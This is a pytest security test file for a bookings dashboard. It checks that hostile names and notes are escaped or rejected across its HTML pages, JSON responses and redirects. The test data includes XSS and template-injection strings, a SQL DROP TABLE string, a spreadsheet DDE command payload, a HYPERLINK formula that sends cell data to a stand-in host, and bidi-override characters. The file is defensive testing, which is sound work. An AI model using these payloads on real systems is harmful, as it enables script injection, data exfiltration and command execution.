"""Names and notes that mean to be code, formulas or a page of their own: shown as typed."""

from collections import Counter
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any

import pytest

from dashboard.bookings import catalog
from dashboard.bookings.tables import Instructor, Student
from tests.web.desk import HTML, sign_in, text
from tests.world import World

NAMES = {
    "a script": "<script>alert(1)</script>",
    "an image": '"><img src=x onerror=alert(1)>',
    "a way out of an attribute": "' onmouseover='alert(1)' x='\" autofocus onfocus=\"alert(1)",
    "the end of everything": "</title></textarea></style></template></dialog></body></html>",
    "a template": "{{ 7777*7777 }} {% include 'layout.html' %} ${7777*7777} #{7777*7777}",
    "a formula": '=HYPERLINK("https://evil.test?x="&A1,"Maya")',
    "other formulas": "+1+cmd|' /C calc'!A0 -2+3 @SUM(1)",
    "SQL": "Robert'); DROP TABLE booking;-- % _ \\",
    "entities": "&lt;b&gt; &amp; &#60;script&#62;",
    "quotes": "O’Brien “Maya” 'x' \"y\" `z`",
    "another script": "مايا 王 Žofie 👩 Z͑͗",
}
# What turns the text after it around, or hides in it.
TURNING = ("\u202e", "\u202d", "\u2066", "\u2067", "\u200f", "\u0000", "\u001b", "\r\n", "\u2028")


class _Shape(HTMLParser):
    """How many of each element, and of each attribute, a page has."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: Counter[str] = Counter()
        self.attributes: Counter[str] = Counter()

    def handle_starttag(self, tag: str, attributes: Any) -> None:
        self.elements[tag] += 1
        self.attributes.update(f"{tag}.{name}" for name, _ in attributes)


def shape(page: str) -> tuple[Counter[str], Counter[str]]:
    parser = _Shape()
    parser.feed(page)
    return parser.elements, parser.attributes


async def pages(world: World, name: str) -> dict[str, str]:
    """Every page that shows the student, the instructor or a note, with these names in them."""
    student = await world.book(student={"name": name}, minutes=60)
    payment = (await world.payment(student["id"])).id
    ana = await sign_in(world, "finance", "Ana")
    refused = {"_csrf": ana.csrf, "note": name, "reason": "other", "amount": name, "scope": "part"}
    shown = {
        path: (await ana.page(path)).text
        for path in (
            "/holds?view=all",
            f"/holds/{payment}",
            f"/holds/{payment}/capture",
            f"/holds/{payment}/release",
            "/mail",
        )
    }
    shown["searched"] = (await ana.page("/holds?view=all", params={"q": name})).text
    shown["refused"] = (await ana.send(payment, "release", refused)).text
    sent = await ana.form(payment, "release") | {"reason": "other", "note": name}
    assert (await ana.send(payment, "release", sent)).status_code == 303
    shown["noted"] = (await ana.page(f"/holds/{payment}")).text
    shown["sign-in"] = (await world.client.get("/sign-in", params={"next": name})).text
    shown["nowhere"] = (await world.client.get(f"/{name.replace('?', '')}", headers=HTML)).text
    return shown


@pytest.mark.parametrize("sort", NAMES)
async def test_30_a_hostile_name_is_harmless_in_every_page(world: World, sort: str):
    name = NAMES[sort]
    await Instructor.update({"name": name, "subject": name[:60]}).where(
        Instructor.id == world.catalog.usd
    )
    for address, page in (await pages(world, name)).items():
        _, attributes = shape(page)
        inline = {one for one in attributes if one.split(".")[1].startswith("on")}
        assert inline == set(), address
        assert page.count("<script") == page.count('<script src="/static/'), address
        assert "<img" not in page and str(7777 * 7777) not in page, address
        if address.startswith("/holds?") or address == "noted":
            assert " ".join(name.split()) in " ".join(text_of(page).split()), address


async def test_30_a_page_has_the_same_elements_whatever_the_name_is(world: World):
    """Every name of the list in turn, each for a lesson like the others."""
    ana, shapes = await sign_in(world, "finance"), []
    for name in ("Maya Chen", *NAMES.values()):
        booked = await world.book(timedelta(days=3), student={"name": name})
        payment = (await world.payment(booked["id"])).id
        page = (await ana.page(f"/holds/{payment}")).text
        shapes.append(shape(page))
        await world.call(booked["id"], "cancel", {"by": "staff", "reason": "Plain"})
    assert all(one == shapes[0] for one in shapes)


@pytest.mark.parametrize("sort", NAMES)
async def test_30_json_gives_a_name_back_as_it_came(world: World, sort: str):
    name = NAMES[sort]
    booked = await world.book(student={"name": name})
    assert booked["student"]["name"] == " ".join(name.split())
    answer = await world.call(booked["id"], "cancel", {"by": "staff", "reason": name})
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Type"].startswith("application/json")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.json()["booking"]["end_reason"] == name


@pytest.mark.parametrize("mark", TURNING, ids=[f"U+{ord(one[0]):04X}" for one in TURNING])
async def test_30_marks_that_turn_or_break_a_line_are_in_no_name_and_no_reason(
    world: World, mark: str
):
    answer = await world.post_booking(student={"name": f"Maya{mark}00.69$ Chen"})
    assert answer.status_code == 422, answer.text
    assert answer.json()["errors"][0]["field"] == "student.name"
    assert await Student.count() == 0
    with pytest.raises(ValueError, match="shown"):
        await catalog.add_instructor(f"Clara{mark}W", "c@example.test", 9600, "usd")
    booked = await world.book()
    body = {"by": "staff", "reason": f"paid{mark}00.69$"}
    answer = await world.call(booked["id"], "cancel", body)
    # A reason may have lines, and marks of direction that belong to a script of its own.
    assert answer.status_code == (200 if mark in ("\r\n", "\u200f", "\u2028") else 422)


@pytest.mark.parametrize("mark", ["\u202e", "\u2066"], ids=["U+202E", "U+2066"])
async def test_30_the_note_of_a_reason_turns_no_amount_around(world: World, mark: str):
    booked = await world.book()
    payment = (await world.payment(booked["id"])).id
    ana = await sign_in(world, "finance", "Ana")
    note = f"paid {mark}00.69$"
    sent = await ana.form(payment, "release") | {"reason": "other", "note": note}
    answer = await ana.send(payment, "release", sent)
    assert answer.status_code == 422
    assert "This has characters that can't be shown." in text(answer).replace("’", "'")
    assert note in answer.text
    assert (await world.payment(booked["id"])).payment_status == "authorized"


def text_of(page: str) -> str:
    class Answer:
        text = page

    return text(Answer())  # type: ignore[arg-type]
